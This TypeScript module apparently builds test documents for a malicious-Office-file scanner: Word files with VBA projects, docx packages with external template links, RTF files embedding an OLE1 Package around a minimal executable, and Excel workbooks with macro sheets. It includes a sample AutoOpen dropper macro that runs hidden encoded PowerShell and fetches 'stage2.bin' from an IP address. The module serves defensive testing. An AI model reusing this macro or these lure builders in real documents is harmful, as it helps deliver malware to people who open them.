// Documents the tests build: a Word 97 file with a VBA project (written with cfb, sources compressed by a
// literal-only MS-OVBA compressor), OOXML packages, an RTF carrying an OLE1 Package, and OLE1 helpers.
import * as CFB from 'cfb';
import { TextReader, Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';

/**
 * MS-OVBA compression using literal tokens only: valid input for any conforming decompressor. A compressed chunk
 * holds at most 4098 bytes with its header, so with one flag byte per 8 literals it carries at most 3640 bytes.
 */
export function compressLiteral(data: Buffer): Buffer {
  const parts: Buffer[] = [Buffer.from([0x01])];
  for (let at = 0; at < data.length; at += 3640) {
    const piece = data.subarray(at, at + 3640);
    const body: number[] = [];
    for (let i = 0; i < piece.length; i += 8) {
      body.push(0x00);
      for (let j = i; j < Math.min(i + 8, piece.length); j++) body.push(piece[j]!);
    }
    const header = 0xb000 | (body.length + 2 - 3);
    parts.push(Buffer.from([header & 0xff, header >> 8]), Buffer.from(body));
  }
  return Buffer.concat(parts);
}

function rec(id: number, data: Buffer | string): Buffer {
  const d = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  const h = Buffer.alloc(6);
  h.writeUInt16LE(id, 0);
  h.writeUInt32LE(d.length, 2);
  return Buffer.concat([h, d]);
}
const u16 = (v: number) => { const b = Buffer.alloc(2); b.writeUInt16LE(v); return b; };
const u32 = (v: number) => { const b = Buffer.alloc(4); b.writeUInt32LE(v); return b; };
const utf16 = (s: string) => Buffer.from(s, 'utf16le');

export interface ModuleSpec { name: string; code: string; type: 'standard' | 'class' }

/** The dir stream (uncompressed) of a project, following MS-OVBA 2.3.4.2 record by record. */
export function dirStream(projectName: string, modules: ModuleSpec[], pcodeSize: number): Buffer {
  const libid = '*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#C:\\Windows\\System32\\stdole2.tlb#OLE Automation';
  const parts = [
    rec(0x0001, u32(1)), rec(0x0002, u32(0x409)), rec(0x0014, u32(0x409)), rec(0x0003, u16(1252)),
    rec(0x0004, projectName), rec(0x0005, ''), rec(0x0040, ''), rec(0x0006, ''), rec(0x003d, ''),
    rec(0x0007, u32(0)), rec(0x0008, u32(0)),
    // PROJECTVERSION: the size field is a fixed 4 although 6 bytes follow.
    Buffer.concat([u16(0x0009), u32(4), u32(1234567), u16(8)]),
    rec(0x000c, ''), rec(0x003c, ''),
    rec(0x0016, 'stdole'), rec(0x003e, utf16('stdole')),
    rec(0x000d, Buffer.concat([u32(libid.length), Buffer.from(libid, 'latin1'), u32(0), u16(0)])),
    rec(0x000f, u16(modules.length)), rec(0x0013, u16(0xffff)),
  ];
  for (const m of modules) {
    parts.push(
      rec(0x0019, m.name), rec(0x0047, utf16(m.name)), rec(0x001a, m.name), rec(0x0032, utf16(m.name)),
      rec(0x001c, ''), rec(0x0048, ''), rec(0x0031, u32(pcodeSize)), rec(0x001e, u32(0)), rec(0x002c, u16(0xffff)),
      rec(m.type === 'class' ? 0x0022 : 0x0021, ''), rec(0x002b, ''),
    );
  }
  parts.push(rec(0x0010, ''));
  return Buffer.concat(parts);
}

/** A Word 97-2003 document (FIB magic in WordDocument) whose Macros/VBA storage holds the given modules. */
export function wordWithMacros(modules: ModuleSpec[], projectName = 'Project'): Buffer {
  const c = CFB.utils.cfb_new();
  const fib = Buffer.alloc(4096);
  fib.writeUInt16LE(0xa5ec, 0);
  fib.writeUInt16LE(0x00c1, 2);
  CFB.utils.cfb_add(c, '/WordDocument', fib);
  CFB.utils.cfb_add(c, '/1Table', Buffer.alloc(4096));
  const pcode = Buffer.alloc(32, 0xcc); // stands in for compiled p-code, which precedes the source
  CFB.utils.cfb_add(c, '/Macros/VBA/dir', compressLiteral(dirStream(projectName, modules, pcode.length)));
  CFB.utils.cfb_add(c, '/Macros/VBA/_VBA_PROJECT', Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]));
  for (const m of modules) CFB.utils.cfb_add(c, `/Macros/VBA/${m.name}`, Buffer.concat([pcode, compressLiteral(Buffer.from(m.code, 'latin1'))]));
  const project = [`ID="{00000000-0000-0000-0000-000000000000}"`, ...modules.map((m) => (m.type === 'class' ? `Document=${m.name}/&H00000000` : `Module=${m.name}`)), `Name="${projectName}"`].join('\r\n');
  CFB.utils.cfb_add(c, '/Macros/PROJECT', Buffer.from(`${project}\r\n`, 'latin1'));
  return Buffer.from(CFB.write(c, { type: 'buffer' }) as Uint8Array);
}

/** A zip of the given parts (OOXML package). */
export async function zipParts(parts: Record<string, string | Buffer>): Promise<Buffer> {
  const w = new ZipWriter(new Uint8ArrayWriter(), { useWebWorkers: false });
  for (const [name, data] of Object.entries(parts)) {
    await w.add(name, typeof data === 'string' ? new TextReader(data) : new Uint8ArrayReader(data));
  }
  return Buffer.from(await w.close());
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A minimal docx; `body` is WordprocessingML paragraphs, `settingsRels` relationships of settings.xml. */
export function docxParts(body: string, settingsRels = ''): Record<string, string> {
  return {
    '[Content_Types].xml': '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `<?xml version="1.0"?><w:document ${W}><w:body>${body}</w:body></w:document>`,
    'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/settings" Target="settings.xml"/></Relationships>`,
    'word/settings.xml': `<?xml version="1.0"?><w:settings ${W} xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
    'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${settingsRels}</Relationships>`,
  };
}

export function templateRel(target: string): string {
  return `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="${target}" TargetMode="External"/>`;
}

/** The Package native format wrapping a file, as the Packager writes it. */
export function packageNative(fileName: string, data: Buffer): Buffer {
  const src = Buffer.from(`C:\\Users\\victim\\Desktop\\${fileName}\0`, 'latin1');
  const tmp = Buffer.from(`C:\\Users\\victim\\AppData\\Local\\Temp\\${fileName}\0`, 'latin1');
  return Buffer.concat([u16(2), Buffer.from(`${fileName}\0`, 'latin1'), src, u32(0x00030000), u32(tmp.length), tmp, u32(data.length), data]);
}

/** An OLE1 embedded object (MS-OLEDS 2.2.4). */
export function ole1Object(className: string, native: Buffer): Buffer {
  const lp = (s: string) => (s ? Buffer.concat([u32(s.length + 1), Buffer.from(`${s}\0`, 'latin1')]) : u32(0));
  return Buffer.concat([u32(0x00000501), u32(2), lp(className), lp(''), lp(''), u32(native.length), native]);
}

/** The smallest bytes our PE check accepts: MZ, e_lfanew, PE signature. */
export function tinyPe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.write('This program cannot be run in DOS mode', 0x40, 'latin1');
  return b;
}

/** An RTF whose \objdata holds `object`, hex-encoded with line breaks the way Word writes it. */
export function rtfWithObject(object: Buffer, objclass: string, extra = ''): Buffer {
  const hex = object.toString('hex').replace(/(.{128})/g, '$1\r\n');
  return Buffer.from(`{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\pard Hello\\par{\\object\\objemb${extra}{\\*\\objclass ${objclass}}\\objw100\\objh100{\\*\\objdata ${hex}}}}`, 'latin1');
}

/** A dropper's macro: AutoOpen runs an encoded PowerShell command and fetches a second stage. */
export const AUTOOPEN_MACRO = [
  'Attribute VB_Name = "NewMacros"',
  'Sub AutoOpen()',
  '    Dim cmd As String',
  '    cmd = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"',
  '    Shell cmd, vbHide',
  '    Set x = CreateObject("MSXML2.XMLHTTP")',
  '    x.Open "GET", "http://93.184.216.34/stage2.bin", False',
  'End Sub',
].join('\r\n');

/** A Word document carrying AUTOOPEN_MACRO next to a ThisDocument class module. */
export function autoOpenDocument(): Buffer {
  return wordWithMacros([
    { name: 'ThisDocument', type: 'class', code: 'Attribute VB_Name = "ThisDocument"\r\nAttribute VB_Base = "1Normal.ThisDocument"\r\n' },
    { name: 'NewMacros', type: 'standard', code: AUTOOPEN_MACRO },
  ]);
}

/** A compound file with the given streams ('/'-separated paths). */
export function oleWith(streams: Record<string, Buffer>): Buffer {
  const c = CFB.utils.cfb_new();
  for (const [path, data] of Object.entries(streams)) CFB.utils.cfb_add(c, `/${path}`, data);
  return Buffer.from(CFB.write(c, { type: 'buffer' }) as Uint8Array);
}

/** A WordDocument stream: FIB magic, then 8-bit text from 0x800 (field codes use 0x13/0x14/0x15 marks). */
export function wordStream(text: string): Buffer {
  const b = Buffer.alloc(Math.max(4096, 0x800 + text.length + 16));
  b.writeUInt16LE(0xa5ec, 0);
  b.write(text, 0x800, 'latin1');
  return b;
}

function biff(type: number, data: Buffer): Buffer {
  return Buffer.concat([u16(type), u16(data.length), data]);
}

/** A BIFF8 globals substream: BOF, one BOUNDSHEET per sheet (type 0 worksheet, 1 macro sheet), EOF. */
export function biffWorkbook(sheets: Array<{ name: string; type: number; state: number }>): Buffer {
  const records = [biff(0x0809, Buffer.from([0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]))];
  for (const s of sheets) records.push(biff(0x0085, Buffer.concat([u32(0), Buffer.from([s.state, s.type, s.name.length, 0]), Buffer.from(s.name, 'latin1')])));
  records.push(biff(0x000a, Buffer.alloc(0)));
  const out = Buffer.concat(records);
  return Buffer.concat([out, Buffer.alloc(Math.max(0, 4096 - out.length))]);
}
